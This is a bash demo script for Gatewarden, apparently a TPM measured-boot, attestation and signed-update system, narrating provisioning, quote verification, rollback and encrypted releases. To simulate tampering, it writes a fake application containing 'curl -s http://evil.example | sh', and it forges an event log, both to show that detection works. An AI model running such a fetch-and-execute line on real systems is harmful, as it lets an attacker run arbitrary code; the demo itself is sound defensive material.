#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# `make demo`: measured boot on a software TPM, end to end, narrated.
set -euo pipefail

B=${1:-build}
ROOT=$(cd "$(dirname "$0")/.." && pwd)
cd "$ROOT"
case $B in /*) ;; *) B=$ROOT/$B ;; esac
FWLOG=${GW_DEMO_FWLOG:-$ROOT/testdata/eventlogs/tpm2-tools-event-arch-linux.bin}

bold=$(tput bold 2>/dev/null || true)
norm=$(tput sgr0 2>/dev/null || true)
step=0
say() { step=$((step + 1)); printf '\n%s%d. %s%s\n' "$bold" "$step" "$*" "$norm"; }
run() { printf '   $ %s\n' "$*"; "$@" 2>&1 | sed 's/^/     /'; return "${PIPESTATUS[0]}"; }
# run_expect CODE MEANING CMD...: run CMD, which must exit CODE (MEANING says why).
run_expect() {
  local want=$1 meaning=$2 rc=0
  shift 2
  run "$@" || rc=$?
  [ "$rc" -eq "$want" ] && return 0
  printf '\nUnexpected: %s exited %d, expected %d (%s).\n' "${1##*/}" "$rc" "$want" "$meaning" >&2
  exit 1
}

work=$(mktemp -d /tmp/gatewarden-demo.XXXXXX)
swtpm_pid=
verifier_pid=
cleanup() {
  if [ -n "$verifier_pid" ]; then kill "$verifier_pid" 2>/dev/null || true; wait "$verifier_pid" 2>/dev/null || true; fi
  if [ -n "$swtpm_pid" ] && kill -0 "$swtpm_pid" 2>/dev/null; then
    swtpm_ioctl --tcp "127.0.0.1:$ctrl" -s >/dev/null 2>&1 || kill "$swtpm_pid" 2>/dev/null || true
  fi
  rm -rf "$work"
}
trap cleanup EXIT

free_port_pair() {
  python3 - <<'PY'
import random, socket
for _ in range(200):
    p = random.randint(20000, 32000)
    try:
        socks = []
        for q in (p, p + 1):
            s = socket.socket(); s.bind(('127.0.0.1', q)); socks.append(s)
        for s in socks: s.close()
        print(p); break
    except OSError:
        for s in socks: s.close()
PY
}

power_on() {
  # A real platform: firmware measures itself into PCRs 0-7, then boots us.
  local log=${1:-$FWLOG}
  swtpm_ioctl --tcp "127.0.0.1:$ctrl" -i >/dev/null
  "$B/tools/gw-fwsim" startup "$log" | sed 's/^/     /'
  "$B/tools/gw-fwsim" replay "$log" | sed 's/^/     /'
}

printf '%sGatewarden demo: measured boot on a TPM, and an offline check of what it says%s\n' "$bold" "$norm"
printf 'Everything runs on this machine: a software TPM (swtpm) on 127.0.0.1 and the\n'
printf 'Gatewarden binaries from %s. Scratch files are in %s.\n' "$B" "$work"

say "Manufacture a software TPM with an endorsement key certificate, and switch it on."
mkdir -p "$work/tpm"
swtpm_setup --tpm2 --tpmstate "$work/tpm" --create-ek-cert --create-platform-cert \
  --lock-nvram --pcr-banks sha1,sha256 --overwrite >"$work/swtpm_setup.log" 2>&1
port=$(free_port_pair)
ctrl=$((port + 1))
swtpm socket --tpm2 --tpmstate dir="$work/tpm" --server type=tcp,port="$port" \
  --ctrl type=tcp,port="$ctrl" --flags not-need-init \
  --pid file="$work/swtpm.pid" --log file="$work/swtpm.log" --daemon
for _ in $(seq 50); do [ -s "$work/swtpm.pid" ] && break; sleep 0.1; done
swtpm_pid=$(cat "$work/swtpm.pid")
export GW_TCTI="swtpm:host=127.0.0.1,port=$port" TPM2TOOLS_TCTI="swtpm:host=127.0.0.1,port=$port"
printf '   swtpm listens on 127.0.0.1:%s (banks sha1, sha256).\n' "$port"
printf '   The platform firmware is simulated: the events of a real firmware log\n'
printf '   (%s) are replayed into PCRs 0-7.\n' "$(basename "$FWLOG")"
power_on

say "Lay out the gateway's boot stages and the agent's configuration."
mkdir -p "$work/gateway"
head -c 1048576 /dev/urandom >"$work/gateway/rootfs.img"
printf '#!/bin/sh\necho gateway application v1.4\n' >"$work/gateway/gateway-app"
printf 'uplink=mqtts://broker.example\n' >"$work/gateway/app.conf"
cat >"$work/agent.conf" <<CONF
[agent]
state_dir = $work/state
model = gw-1000
firmware_log = $FWLOG

[stage rootfs]
file = $work/gateway/rootfs.img

[stage application]
file = $work/gateway/gateway-app

[stage config]
file = $work/gateway/app.conf
CONF
sed 's/^/     /' "$work/agent.conf"
A=("$B/gwagent" --config "$work/agent.conf")

say "Provision the TPM: endorsement key (with its certificate), storage key, attestation key."
run "${A[@]}" provision

say "Run it again: provisioning is idempotent, nothing changes."
run "${A[@]}" provision

say "Boot: the boot service measures each stage into PCR 13 and the event log."
run "${A[@]}" boot

say "The verifier sends a fresh nonce; the gateway answers with a quote signed by its AK."
nonce=$(openssl rand -hex 32)
run "${A[@]}" quote --nonce "$nonce" --out "$work/quote1"
cp "$work/quote1/eventlog.cel" "$work/golden.cel"
printf '   The event log of this known-good boot is kept as the reference.\n'

say "Check the quote offline with only the AK public key: signature, nonce, PCRs, both logs."
run "$B/gwverifier" check-quote --evidence "$work/quote1/evidence.json" --ak "$work/state/ak.pem" \
  --nonce "$nonce" --reference "$work/golden.cel"

say "tpm2-tools agrees: tpm2_checkquote accepts the same quote."
run tpm2_checkquote -u "$work/quote1/ak.pem" -m "$work/quote1/quote.msg" -s "$work/quote1/quote.sig" \
  -f "$work/quote1/quote.pcrs" -g sha256 -q "$nonce"

say "An attacker replaces the application binary on disk, and the gateway reboots."
printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
power_on
run "${A[@]}" boot

say "A new quote, a new nonce: the quote is genuine, but the application stage changed."
nonce=$(openssl rand -hex 32)
run "${A[@]}" quote --nonce "$nonce" --out "$work/quote2"
set +e
run "$B/gwverifier" check-quote --evidence "$work/quote2/evidence.json" --ak "$work/state/ak.pem" \
  --nonce "$nonce" --reference "$work/golden.cel"
rc=$?
set -e
if [ "$rc" -ne 18 ]; then
  printf '\nUnexpected: check-quote exited %d, expected 18 (reference mismatch).\n' "$rc" >&2
  exit 1
fi
printf '   Exit status %d: a measurement differs from the reference, and the message\n' "$rc"
printf '   names the stage and file. Nobody could hide it: the log replays to the\n'
printf '   PCRs the TPM signed, so the log cannot be edited to say otherwise.\n'

say "Someone edits the log to show the old digest: the replay no longer matches."
python3 - "$work/quote2/eventlog.cel" "$work/golden.cel" "$work/forged.cel" <<'PY'
import sys
cur = open(sys.argv[1], 'rb').read().split(b'\x1e')
gold = open(sys.argv[2], 'rb').read().split(b'\x1e')
cur[2] = gold[2]          # record 1 (application) copied from the good boot
open(sys.argv[3], 'wb').write(b'\x1e'.join(cur))
PY
run_expect 17 "the log does not replay" "$B/gwverifier" check-quote --ak "$work/state/ak.pem" \
  --nonce "$nonce" --message "$work/quote2/quote.msg" --signature "$work/quote2/quote.sig" \
  --pcrs "$work/quote2/quote.pcrs" --eventlog "$work/quote2/firmware.bin" --cel "$work/forged.cel"


# ---------------------------------------------------------------- verifier ---
printf '\n%sPart 2: the verifier service%s\n' "$bold" "$norm"
V=("$B/gwverifier")
vport=$(free_port_pair)

say "Set up a verifier: its CA, TLS certificate and gate key, trusting the TPM maker's EK CA."
run "${V[@]}" init "$work/verifier" --listen "127.0.0.1:$vport" \
  --ek-ca /var/lib/swtpm-localca/swtpm-localca-rootca-cert.pem \
  --ek-ca /var/lib/swtpm-localca/issuercert.pem --id demo-verifier
VC=(--config "$work/verifier/verifier.conf")

say "The release team's policy signing key: the verifier trusts only policies it signed."
run "$B/gwpolicy" keygen --out "$work/policy-release"
printf '\n[policy]\nkey = %s\nthreshold = 1\n' "$work/policy-release.pub" >>"$work/verifier/verifier.conf"
sed -n '/^\[policy\]/,$p' "$work/verifier/verifier.conf" | sed 's/^/     /'
"${V[@]}" serve "${VC[@]}" >"$work/verifier.log" 2>&1 &
verifier_pid=$!
for _ in $(seq 100); do
  python3 -c "import socket; socket.create_connection(('127.0.0.1', $vport), 0.2)" 2>/dev/null && break
  sleep 0.1
done
printf '   gwverifier serve runs on https://127.0.0.1:%s (log: verifier.log)\n' "$vport"

say "The gateway's application is put right again, and the gateway reboots."
printf '#!/bin/sh\necho gateway application v1.4\n' >"$work/gateway/gateway-app"
power_on
run "${A[@]}" boot

say "The gateway enrolls: the verifier checks its EK certificate and challenges its TPM."
set +e
run "${A[@]}" enroll --verifier "https://127.0.0.1:$vport" --ca "$work/verifier/ca.pem" \
  --device-id gw-demo-01 --model gw-1000
set -e
printf '   The TPM proved it holds the EK and the AK (TPM2_ActivateCredential);\n'
printf '   the device now waits for an operator.\n'

say "The operator sees the new device and approves it."
run "${V[@]}" device list "${VC[@]}"
run "${V[@]}" device approve "${VC[@]}" gw-demo-01

say "The gateway collects its TLS certificate and pins the verifier's gate key."
run "${A[@]}" enroll --verifier "https://127.0.0.1:$vport" --ca "$work/verifier/ca.pem" \
  --device-id gw-demo-01 --model gw-1000

say "A release engineer predicts the PCRs a gateway will show, from the release files alone."
STAGES=(--stage "rootfs=$work/gateway/rootfs.img" --stage "application=$work/gateway/gateway-app"
  --stage "config=$work/gateway/app.conf")
run "$B/gwpolicy" predict "${STAGES[@]}" --gate-key "$work/verifier/gate.pub" --banks sha256
printf '   The gateway, booted from these files and enrolled, shows the same values:\n'
tpm2_pcrread sha256:13,14 | sed 's/^/     /'

say "From a golden gateway's firmware log and the same files, gwpolicy drafts the policy."
run "$B/gwpolicy" from-eventlog "$FWLOG" --model gw-1000 "${STAGES[@]}" \
  --gate-key "$work/verifier/gate.pub" --description "gw-1000 release 1.4" --out "$work/policy.json"
printf '   Each firmware rule names the event of the golden log it came from (%d lines; an excerpt):\n' \
  "$(wc -l <"$work/policy.json")"
python3 - "$work/policy.json" <<'PY' | sed 's/^/     /'
import json, sys
p = json.load(open(sys.argv[1]))
fw = p["firmware"]
print(f'model {p["model"]} version {p["version"]}, PCRs {p["pcr_selection"]}')
for pcr, rule in list(fw["pcrs"].items())[:2]:
    for e in rule["sequence"][:2]:
        print(f'firmware PCR {pcr}: {e["digests"][0][:16]}...  # {e["comment"]}')
print(f'firmware: {len(fw["pcrs"])} PCRs by reference sequence, '
      f'{len(fw.get("required_events", []))} required events, '
      f'{len(fw.get("bootloader", []))} bootloader and {len(fw.get("kernel", []))} kernel digest(s)')
for name, d in p["stages"].items():
    print(f'stage {name}: {d[0][:16]}...')
print(f'trust: gate key {p["trust"]["gate_key"][0][:16]}...')
PY
run "$B/gwpolicy" lint "$work/policy.json"
printf '   $ %s\n' "gwpolicy sign --key $work/policy-release.key $work/policy.json > $work/policy.signed.json"
"$B/gwpolicy" sign --key "$work/policy-release.key" "$work/policy.json" >"$work/policy.signed.json"
say "The operator loads it: unsigned policies are refused, the signed one is verified and audited."
set +e
run "${V[@]}" policy add "${VC[@]}" "$work/policy.json"
rc=$?
set -e
[ "$rc" -ne 0 ] || { printf 'Unexpected: an unsigned policy was accepted.\n' >&2; exit 1; }
run "${V[@]}" policy add "${VC[@]}" "$work/policy.signed.json"

say "The gateway attests: challenge, quote, appraisal, a signed result."
run "${A[@]}" attest

say "The attacker swaps the application again; the gateway reboots and attests."
printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
power_on
run "${A[@]}" boot
run_expect 24 "contraindicated" "${A[@]}" attest
printf '   Contraindicated, naming the stage: this gateway gets no update authorization.\n'

say "The application is restored, but the gateway now boots an old, vulnerable kernel."
printf '#!/bin/sh\necho gateway application v1.4\n' >"$work/gateway/gateway-app"
# The firmware measures the kernel image it loads into PCR 4; this platform's log
# is the golden one with another kernel's digest in that event.
python3 - "$FWLOG" "$work/policy.json" "$work/old-kernel.bin" <<'PY'
import hashlib, json, sys
log = open(sys.argv[1], 'rb').read()
kernel = bytes.fromhex(json.load(open(sys.argv[2]))["firmware"]["kernel"][0])
assert log.count(kernel) == 1
old = hashlib.sha256(b"linux 5.4.0, a kernel with known holes").digest()
open(sys.argv[3], 'wb').write(log.replace(kernel, old))
PY
sed -i "s|^firmware_log = .*|firmware_log = $work/old-kernel.bin|" "$work/agent.conf"
power_on "$work/old-kernel.bin"
run "${A[@]}" boot
run_expect 24 "contraindicated" "${A[@]}" attest
printf '   The firmware rules name the kernel and the PCR 4 event, expected against seen.\n'

say "The operator's view: the fleet, the device's history, and the audit chain."
run "${V[@]}" status "${VC[@]}"
run "${V[@]}" history "${VC[@]}" gw-demo-01
run "${V[@]}" audit "${VC[@]}"
run "${V[@]}" audit verify "${VC[@]}"

# ----------------------------------------------------------------- updates ---
printf '\n%sPart 3: a signed update, a trial boot, a commit and a rollback%s\n' "$bold" "$norm"
U=$work/updates
mkdir -p "$U"

say "A release engineer makes the update trust root: a root key, and a targets key that signs releases."
run "$B/gwpolicy" keygen --out "$U/root-key"
run "$B/gwpolicy" keygen --out "$U/release-key"
run "$B/gwpolicy" root init --root-key "$U/root-key.pub" --root-threshold 1 \
  --targets-key "$U/release-key.pub" --targets-threshold 1 --sign "$U/root-key.key" -o "$U/root.json"
root_digest=$(python3 -c 'import base64, hashlib, json, sys
print(hashlib.sha256(base64.b64decode(json.load(open(sys.argv[1]))["payload"])).hexdigest())' "$U/root.json")
printf '   The gateway ships with root.json; its digest is sha256:%s.\n' "$root_digest"

# bundle VERSION SECURITY_VERSION [CREATE ARGS]: a release image signed into
# $U/release-VERSION.gwb
bundle() {
  head -c 1048576 /dev/urandom >"$U/rootfs-$1.img"
  run "$B/gwpolicy" bundle create --root "$U/root.json" --key "$U/release-key.key" \
    --model gw-1000 --channel stable --version "$1" --security-version "$2" \
    --image "rootfs=$U/rootfs-$1.img" -o "$U/release-$1.gwb" "${@:3}"
}
say "Release 1.5 (security version 2) is built and signed into a bundle."
bundle 1.5 2

say "The gateway gets two slot groups, a bootloader, an anti-rollback counter and a health check."
truncate -s 2M "$U/slotA.img" "$U/slotB.img"
cat >"$U/health-check" <<EOF
#!/bin/sh
# The application's self-test: fails when the release broke the uplink.
if [ -e "$U/uplink-broken" ]; then echo "uplink: no answer from broker"; exit 1; fi
echo "uplink: broker answers"
EOF
printf '#!/bin/sh\necho "reboot requested" >>"%s/reboots"\n' "$U" >"$U/reboot"
chmod +x "$U/health-check" "$U/reboot"
sed -i "s|^firmware_log = .*|firmware_log = $FWLOG|" "$work/agent.conf"
cat >>"$work/agent.conf" <<CONF

[update]
root = $U/root.json
channel = stable
# part 3 installs by hand; part 4 goes through the verifier
authorization = none
bootloader = file
bootloader_path = $U/bootloader.state
trial_tries = 1
reboot_command = $U/reboot

[slot A.rootfs]
device = $U/slotA.img

[slot B.rootfs]
device = $U/slotB.img

[channel stable]
counter_index = 0x01800100
baseline_index = 0x01800101

[health uplink]
command = $U/health-check
timeout = 30
CONF
sed -n '/^\[update\]/,$p' "$work/agent.conf" | sed 's/^/     /'
printf '   The bootloader is simulated (gw-bootsim): it keeps which group is good, which\n'
printf '   is on trial and how many tries are left, as grub, U-Boot or systemd-boot would.\n'
run "${A[@]}" provision
BL=("$B/tools/gw-bootsim" --kind file --path "$U/bootloader.state")
# restart: power off and on; the bootloader picks a group.
restart() {
  power_on
  printf '   The bootloader boots group %s.\n' "$("${BL[@]}" boot)"
}
restart
run "${A[@]}" boot

say "The gateway installs release 1.5 into the idle group B, checking every byte as it streams."
printf '   $ %s\n' "gwagent --config $work/agent.conf update install --json $U/release-1.5.gwb"
"${A[@]}" update install --json "$U/release-1.5.gwb" | python3 -c "$(cat <<'PY'
import json, sys
for line in sys.stdin:
    m = json.loads(line)
    if m.get("event") == "progress":
        print(f'     {m["class"]}: {m["phase"]:6} {m["percent"]:3d}%  '
              f'({m["done"]} of {m["total"]} bytes)')
    else:
        print("     " + json.dumps(m))
PY
)"
printf '   The staged release is measured into PCR 14, and B is set for one trial boot.\n'

say "The gateway reboots into the trial; the boot service runs the health check and commits."
restart
run "${A[@]}" boot
run "${A[@]}" update status
printf '   PCR 14 holds the trust root and the update records, in order:\n'
pcr14() {
  python3 - "$work/state/eventlog.cel" <<'PY' | sed 's/^/     /'
import json, sys
for rec in open(sys.argv[1], "rb").read().split(b"\x1e"):
    if rec.strip():
        r = json.loads(rec)
        if r["pcr"] == 14:
            print(r.get("content", {}).get("string", ""))
PY
  tpm2_pcrread sha256:14 | sed 's/^/     /'
}
pcr14

say "Someone offers the gateway release 1.3 (security version 1), an old one with known holes."
bundle 1.3 1
run_expect 35 "below the counter" "${A[@]}" update install --no-progress "$U/release-1.3.gwb"
printf '   Refused: the TPM counter says this gateway already runs security version 2.\n'

say "Release 1.6 (security version 3) installs fine, but it breaks the uplink."
bundle 1.6 3
run "${A[@]}" update install --no-progress "$U/release-1.6.gwb"
touch "$U/uplink-broken"
restart
run_expect 40 "rolled back" "${A[@]}" boot
printf '   The health check failed: group A is marked bad and the reboot command ran\n'
printf '   (it wrote "%s"); the counter stays at 2. The next boot is group B again.\n' "$(cat "$U/reboots")"
rm -f "$U/uplink-broken"
restart
run "${A[@]}" boot
run "${A[@]}" update status
pcr14

say "The operator adds the trust root to the gateway policy (version 2) and loads it, signed."
python3 - "$work/policy.json" "$root_digest" "$U/policy-2.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1]))
p["version"] += 1
p["description"] = "gw-1000 release 1.4 and later, updates signed by the release trust root"
p["trust"]["trust_root"] = [sys.argv[2]]
json.dump(p, open(sys.argv[3], "w"), indent=2)
PY
"$B/gwpolicy" sign --key "$work/policy-release.key" "$U/policy-2.json" >"$U/policy-2.signed.json"
run "${V[@]}" policy add "${VC[@]}" "$U/policy-2.signed.json"

say "After all that, the gateway attests: the update records in PCR 14 pass, affirming."
run "${A[@]}" attest

# ---------------------------------------------------------------- releases ---
printf '\n%sPart 4: releases through the verifier, unlocked by the TPM only for an attested gateway%s\n' \
  "$bold" "$norm"

say "The verifier pins the same release trust root; the release engineer encrypts release 1.7 for it."
sed -i "/^\[releases\]/a trust_root = $U/root.json" "$work/verifier/verifier.conf"
sed -n '/^\[releases\]/,/^$/p' "$work/verifier/verifier.conf" | sed 's/^/     /'
printf '   $ %s\n' "gwverifier release-key --config $work/verifier/verifier.conf > $U/verifier-release.pub"
"${V[@]}" release-key "${VC[@]}" >"$U/verifier-release.pub"
bundle 1.7 3 --encrypt-for "$U/verifier-release.pub"
printf '   The payload is AES-256-GCM under a fresh content key, and that key is wrapped for\n'
printf '   the verifier'"'"'s release key: a copy of the bundle opens nowhere else.\n'
run "${V[@]}" release add "${VC[@]}" "$U/release-1.7.gwb"
# release_id VERSION: the id the verifier gave that release
release_id() {
  "${V[@]}" release list "${VC[@]}" --json | python3 -c 'import json, sys
print([r["id"] for r in json.load(sys.stdin) if r["version"] == sys.argv[1]][0])' "$1"
}
rel=$(release_id 1.7)
printf '   The verifier checked the whole bundle against its own pinned root before keeping it.\n'

say "From now on the gateway installs nothing without the verifier's fresh authorization."
sed -i '/^# part 3 installs by hand; part 4 goes through the verifier$/d; /^authorization = none$/d' \
  "$work/agent.conf"
printf '   agent.conf loses "authorization = none". At enrollment the gateway'"'"'s TPM made an\n'
printf '   update key (ECC P-256, fixedTPM, certified by the AK) that decrypts only under a\n'
printf '   PolicySigned by the verifier'"'"'s gate key over the TPM'"'"'s own session nonce.\n'

say "The gateway attests; its signed result now lists the release it may install."
run "${A[@]}" attest
run "${A[@]}" update pending
printf '   The offer came inside the result signed by the gate key; auto_install = yes and no\n'
printf '   maintenance window, so the decision is to install.\n'

say "gwagent update apply: download, the authorization round, the TPM unwrap, install."
run "${A[@]}" update apply "$rel"
printf '   The agent opened a policy session and quoted with its nonceTPM bound into the\n'
printf '   qualifying data. The verifier appraised that quote (affirming), re-wrapped the\n'
printf '   content key to this TPM'"'"'s update key and signed a PolicySigned over that nonce,\n'
printf '   valid for two minutes. Only inside that session did the TPM run the ECDH that\n'
printf '   unwrapped the content key; the agent wiped it after the install.\n'
restart
run "${A[@]}" boot

say "The next attestation tells the verifier what the gateway runs and what its TPM counter says."
run "${A[@]}" attest
run "${V[@]}" device show gw-demo-01 "${VC[@]}"
run "${V[@]}" status "${VC[@]}"
printf '   The running release, the trial and the last update come from the quoted PCR 14\n'
printf '   records (each extended with the hash of its own text, so its words are what the\n'
printf '   TPM quoted); the security version from the counter the TPM certified\n'
printf '   (TPM2_NV_Certify). The rollout counts the gateway as running 1.7. Neither the\n'
printf '   running release nor one below the counter is offered again.\n'

say "Release 1.8 is offered to the gateway; then an attacker changes its application."
bundle 1.8 4 --encrypt-for "$U/verifier-release.pub"
run "${V[@]}" release add "${VC[@]}" "$U/release-1.8.gwb"
rel8=$(release_id 1.8)
run "${A[@]}" attest
run "${A[@]}" update pending
printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
restart
run "${A[@]}" boot

say "The tampered gateway asks for its authorization: refused, with the reason."
run_expect 45 "authorization refused" "${A[@]}" update apply "$rel8"
printf '   The verifier audited both authorization rounds (gwverifier audit --json, excerpt):\n'
"${V[@]}" audit "${VC[@]}" --json | python3 -c 'import json, sys
for r in map(json.loads, filter(None, sys.stdin.read().splitlines())):
    if r["action"] == "release.authorize":
        print("     %s  %s  %-8s %s" % (r["device"], r["action"], r["outcome"], r["detail"]["message"]))'
printf '   The quote of the authorization round showed the changed application: no\n'
printf '   authorization, so its TPM keeps release 1.8 sealed, even with the bundle on disk.\n'
run "${A[@]}" update status

printf '\n%sDemo complete.%s The good boot passed; the tampered stage and the forged log\n' "$bold" "$norm"
printf 'were caught offline, each named; the verifier enrolled the gateway through its\n'
printf 'TPM, affirmed the good boot and refused the tampered one, and audited it all.\n'
printf 'A signed release installed, booted on trial and committed (counter and PCR 14);\n'
printf 'an older release was refused, a broken one rolled back, and the gateway still\n'
printf 'attests as affirming. Through the verifier, an encrypted release was offered to\n'
printf 'the attested gateway, unlocked by its TPM only with the verifier'"'"'s fresh\n'
printf 'authorization, installed, committed and seen in its next quote; once tampered\n'
printf 'with, the gateway was refused the next one.\n'
